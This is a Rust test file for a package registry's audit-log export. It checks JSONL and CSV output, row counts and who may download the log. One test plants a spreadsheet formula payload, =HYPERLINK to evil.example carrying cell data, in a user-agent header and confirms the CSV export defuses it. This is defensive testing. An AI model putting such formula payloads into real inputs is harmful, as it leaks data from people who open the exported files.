//! The whole log as a file.

use serde_json::Value;
use supercargo_testkit::{Database, on_both};

use crate::scene::{Scene, download};

on_both!(
    an_export_has_every_entry_that_the_filters_let_through,
    a_spreadsheet_finds_no_formula_in_an_export,
    an_export_is_for_those_who_may_read_the_log,
);

/// I9 (exportable).
async fn an_export_has_every_entry_that_the_filters_let_through(database: Database) {
    let scene = Scene::start(database).await;
    // more than the server reads at a time
    let many: Vec<_> = (0..1203)
        .map(|number| format!("({number}, 'made.up', 'done', 'n{number}')"))
        .collect();
    let insert = "INSERT INTO audit (at, action, outcome, detail) VALUES ";
    scene.execute(format!("{insert}{}", many.join(","))).await;
    let path = "/api/v1/audit?action=made.up&format=";
    let lines = scene.admin.get(&format!("{path}jsonl")).await.expect(200);
    assert_eq!(lines.header("content-type"), Some("application/jsonl"));
    assert_eq!(lines.header("cache-control"), Some("no-store"));
    let details = |items: &[Value]| -> Vec<String> {
        let detail = |item: &Value| item["detail"].as_str().unwrap().to_owned();
        items.iter().map(detail).collect()
    };
    let expected: Vec<_> = (0..1203).rev().map(|n| format!("n{n}")).collect();
    assert_eq!(details(&lines.json_lines()), expected);
    let one = scene.log("action=made.up&limit=1").await;
    assert_eq!(lines.json_lines()[0], one[0], "an item as in a list");

    let table = scene.admin.get(&format!("{path}csv")).await.expect(200);
    let kind = table.header("content-type").unwrap();
    assert!(kind.starts_with("text/csv"), "{kind}");
    let name = table.header("content-disposition").unwrap();
    assert_eq!(name, "attachment; filename=\"audit.csv\"");
    let text = table.text();
    let rows: Vec<_> = text.split_terminator("\r\n").collect();
    assert_eq!(rows.len(), 1204);
    assert_eq!(
        rows[0],
        "at,action,outcome,principal,token_id,address,user_agent,registry,crate,version,detail,request_id"
    );
    assert_eq!(rows[1203], "1970-01-01T00:00:00Z,made.up,done,,,,,,,,n0,");

    download_and_export(&scene).await;
}

async fn download_and_export(scene: &Scene) {
    scene.publish("acme", "demo", "1.0.0").await;
    download(&scene.admin, "acme", "demo", "1.0.0").await;
    let path = "/api/v1/audit?action=version.downloaded&format=jsonl";
    let lines = scene.admin.get(path).await.expect(200).json_lines();
    assert_eq!(lines.len(), 1);
    assert_eq!(lines[0]["crate"], "demo");
}

/// The attack: a user agent that a spreadsheet computes sends the auditor's log to its author.
async fn a_spreadsheet_finds_no_formula_in_an_export(database: Database) {
    let scene = Scene::start(database).await;
    let agent = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
    let attempt = scene
        .server
        .anonymous()
        .request(http::Method::POST, "/api/v1/registries/@sum,x/claims")
        .header("user-agent", agent);
    attempt.send().await.expect(401);
    let path = "/api/v1/audit?outcome=denied&format=csv";
    let text = scene.admin.get(path).await.expect(200).text();
    let row = text.lines().nth(1).unwrap();
    let (_, from_action) = row.split_once(',').unwrap();
    let (fixed, _) = from_action.rsplit_once(',').unwrap();
    insta::assert_snapshot!(fixed, @r#"claim.created,denied,,,127.0.0.1,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")","'@sum,x",,,sign-in"#);
}

async fn an_export_is_for_those_who_may_read_the_log(database: Database) {
    let scene = Scene::start(database).await;
    let ada = scene.admin.person("ada", "acme", "admin", &["admin"]).await;
    for format in ["jsonl", "csv"] {
        let path = format!("/api/v1/audit?format={format}");
        ada.get(&path).await.expect(403);
        scene.server.anonymous().get(&path).await.expect(401);
    }
    let own = ada.get("/api/v1/audit?registry=acme&format=jsonl").await;
    let own = own.expect(200).json_lines();
    assert!(own.iter().all(|item| item["registry"] == "acme") && !own.is_empty());
}
